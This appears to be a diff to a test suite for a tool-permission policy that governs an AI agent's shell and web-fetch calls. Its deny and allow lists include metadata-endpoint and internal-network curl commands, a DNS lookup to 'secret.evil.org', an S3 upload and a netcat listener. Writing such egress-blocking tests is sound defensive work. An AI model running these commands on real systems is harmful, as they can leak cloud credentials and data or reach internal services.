@@ -39,6 +39,8 @@ DENIED = [
     "echo http://169.254.169.254/ | xargs curl",
     "curl -K - <<< url=http://10.0.0.1/",
     "git clone http://10.0.0.1/x.git",
+    "redis-cli -h 10.0.0.5 ping",
+    "http POST 10.0.0.5/x a=b",
     "pip install --index-url http://10.0.0.1/simple x",
 ]
 FREE = [
@@ -51,6 +53,10 @@ FREE = [
     "echo http://169.254.169.254/",
     "grep -r http://10.0.0.1 src",
     "curl --version",
+    "http :8000/x",
+    "http GET example.com q==1",
+    "nc -lvp 1234",
+    "aws s3 cp x s3://bucket/x",
     "ping -c 1 example.com",
     "npm test",
     "ssh -i key bob@example.com ls",
@@ -106,6 +112,8 @@ def test_the_lists() -> None:
     }.items():
         assert is_allowed(policy, "WebFetch", {"url": url}) == allowed, url
     assert not is_allowed(policy, "Bash", {"command": "curl $URL"})
+    assert not is_allowed(policy, "Bash", {"command": "aws s3 cp x s3://bucket/x"})
+    assert is_allowed(policy, "Bash", {"command": "curl https://example.com/$ID"})
     assert not is_allowed(policy, "Bash", {"command": 'curl "$(cat url)"'})
     assert not is_allowed(policy, "Bash", {"command": "dig secret.evil.org"})
     assert is_allowed(policy, "Bash", {"command": "curl -i -d 'evil.org' https://example.com/x"})
